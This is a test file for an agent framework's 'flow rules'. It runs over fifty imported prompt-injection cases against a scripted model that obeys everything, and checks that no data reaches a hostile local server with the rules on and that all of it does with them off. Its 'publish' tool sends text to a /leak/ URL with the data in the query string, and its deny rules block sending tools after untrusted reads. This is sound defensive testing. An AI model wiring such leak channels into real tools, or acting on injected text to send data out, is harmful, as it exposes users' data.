// Injections against a model that obeys every word: with flow rules no data leaves, without them all of it does.

import { fileURLToPath } from "node:url";
import { expect, test } from "vitest";
import { z } from "zod";
import { defineTool } from "../../../../src/agent/core/tool.ts";
import { answer, callbackTool } from "../../../support/callback-tool.ts";
import { httpServer } from "../../../support/hostile.ts";
import { startServer } from "../../../support/server.ts";
import { post } from "../../../support/sse.ts";
import { type Injection, injections, obedient } from "./injections.ts";

const MAIL = fileURLToPath(new URL("../../../fixtures/mcp/mail.ts", import.meta.url));

/** Those who write what agents read, and receive what they send, by the number of the injection. */
async function outside() {
  const texts = new Map<number, string>();
  const leaks = new Set<number>();
  const numberOf = (path: string) => Number(/\/\w+\/(\d+)/.exec(path)?.[1]);
  const { url } = await httpServer(({ path }, response) => {
    if (path.startsWith("/leak/")) leaks.add(numberOf(path));
    response.end(texts.get(numberOf(path)) ?? "nothing");
  });
  const callback = await callbackTool((call) => {
    const id = Number(call.args.id);
    if (call.name === "post_message") leaks.add(id);
    answer(call, call.name === "lookup" ? (texts.get(id) ?? "") : "sent");
  });
  return { url, texts, leaks, callback };
}

function toolsFor(world: string) {
  const reads = { readOnly: true, requiresPermission: false } as const;
  const text = async (url: string) => (await fetch(url)).text();
  return [
    defineTool({
      ...{ name: "fetch_page", description: "Fetches a page.", annotations: reads },
      parameters: z.object({ url: z.string() }),
      execute: ({ url }) => text(url),
    }),
    defineTool({
      ...{ name: "fetch_broken", description: "Fetches a page that is broken.", annotations: reads },
      parameters: z.object({ url: z.string() }),
      async execute({ url }) {
        throw new Error(await text(url));
      },
    }),
    defineTool({
      ...{ name: "publish", description: "Publishes a text." },
      parameters: z.object({ id: z.number(), text: z.string() }),
      execute: ({ id, text: data }) => text(`${world}/leak/${id}?data=${data}`),
    }),
  ];
}

const RULES = `
      flow:
        - { after: ["fetch_*", "mcp__mail__read_*", lookup], deny: [publish, fetch_page, post_message] }
        - { after: ["fetch_*", "mcp__mail__read_*", lookup], ask: [execute, "mcp__*__send_*"], because: others wrote it }`;

const agentsWith = (rules: string, world: string) => `
defaults: { model: "scripted:test" }
agents:
  lead:
    system_prompt: I am lead
    backend: { type: local }
    tools: [fetch_page, fetch_broken, publish, lookup, post_message, "mcp__mail__*"]
    subagents: [reader, boss, courier]
    permissions:
      mode: bypass${rules}
  boss: { system_prompt: I am boss, subagents: [reader], tools: [publish] }
  reader: { system_prompt: I am reader, tools: [fetch_page, publish] }
  courier: { system_prompt: I am courier, tools: [publish] }
mcp_servers:
  mail: { command: "${process.execPath}", args: ["${MAIL}"], env: { WORLD: "${world}" } }
`;

async function attacked(rules: string) {
  const world = await outside();
  const { url } = await startServer({
    script: obedient(world.url),
    tools: toolsFor(world.url),
    agents: agentsWith(rules, world.url),
    config: { http_tools: { allow: world.callback.allow } },
  });
  for (const name of ["lookup", "post_message"])
    expect((await world.callback.register(url, name)).status).toBe(201);
  const cases = injections(world.url);
  for (const { id, text } of cases) world.texts.set(id, text);
  const run = async (thread: string, input: string) =>
    (await post(`${url}/threads/${thread}/runs`, { input })).ended();
  const attack = async ({ id, carrier }: Injection) => {
    if (carrier === "file of another thread") await run(`kept-${id}`, `keep page, case ${id}`);
    await run(`case-${id}`, `${carrier}, case ${id}`);
  };
  const waiting = [...cases];
  const work = async () => {
    for (let next = waiting.shift(); next; next = waiting.shift()) await attack(next);
  };
  await Promise.all(Array.from({ length: 6 }, work));
  const left = cases.filter(({ id }) => world.leaks.has(id));
  return { cases, left, kept: cases.filter((each) => !left.includes(each)) };
}

const namesOf = (list: readonly Injection[]) =>
  list.map(({ id, carrier, channel }) => `${id}: ${carrier}, ${channel}`);

test("no injection moves data past flow rules", async () => {
  const { cases, left } = await attacked(RULES);
  expect(cases.length).toBeGreaterThan(50);
  expect(namesOf(left)).toEqual([]);
});

test("without flow rules, each of them moves data", async () => {
  const { kept } = await attacked("");
  expect(namesOf(kept)).toEqual([]);
});
